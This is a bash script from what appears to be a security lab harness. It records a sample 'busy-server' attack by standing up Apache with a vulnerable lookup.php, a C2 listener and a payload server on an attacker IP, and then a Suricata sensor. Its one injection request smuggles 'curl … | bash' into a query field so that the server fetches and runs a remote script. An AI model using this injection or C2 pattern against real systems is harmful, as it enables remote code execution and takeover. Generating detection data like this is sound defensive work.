#!/bin/bash
# Records the sample busy-server. Run as root on a machine of your own; results in /opt/lab/out/busy-server.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" web-8 10.20.0.36 ""

install -d $LAB/site/run $LAB/site/htdocs
install -m 644 "$RUN/lookup.php" $LAB/site/htdocs/
printf 'host,place\nmail,rack 4\nweb,rack 5\n' > $LAB/site/hosts.csv
for n in 1 2 3 4 5 6 7 8; do seq 1 $((n * 30)) > $LAB/site/htdocs/page$n.html; done
sed "s/10\.20\.0\.21/$HOST_IP/; s/StartServers 4/StartServers 8/" "$here/../webapp-rce/httpd.conf" > "$RUN/httpd.conf"
install -d -o $OUT_UID "$RUN/attacker"
cp "$RUN/second.sh" "$RUN/attacker/s"
lab_outside python3 "$RUN/c2.py" $BAD_IP 8081 "$RUN/seen.json" 2901010 "LAB EXPLOIT shell calls out after a request" who where list read
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/attacker" 80

lab_audit_on RAW 500 1
lab_service /usr/sbin/apache2 -f "$RUN/httpd.conf" -DFOREGROUND
lab_noise_on 9
sleep 3
# 200 requests a second, every twentieth of them a lookup that needs no shell.
lab_outside python3 "$RUN/visitors.py" "$HOST_IP" $VISITOR_IP 200
sleep 13
lab_outside curl -s -m 20 --interface $BAD_IP -G "http://$HOST_IP/lookup.php" --data-urlencode \
  "host=mail; curl -s http://$BAD_IP/s | bash >/dev/null 2>&1 &"
sleep 10
lab_noise_off
lab_audit_off
python3 "$RUN/sensor.py" suricata "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
